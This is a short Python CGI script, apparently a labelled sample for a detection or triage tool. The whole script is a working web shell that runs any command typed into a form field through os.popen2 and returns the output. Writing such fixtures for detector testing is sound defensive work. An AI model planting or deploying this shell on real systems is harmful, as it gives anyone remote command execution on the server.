#!/usr/bin/python
# triage-expect: triage_python_cgi_shell
# Old-style Python CGI shell: a form field through a helper dict into os.popen2.
import cgi, os
print("Content-type: text/html\n")
form = cgi.FieldStorage()
fields = dict((k, form.getfirst(k, "")) for k in ("line",))
todo = fields["line"]
if todo:
    w, r = os.popen2(todo)
    print("<pre>" + cgi.escape(r.read()) + "</pre>")
print('<form><input name="line"></form>')
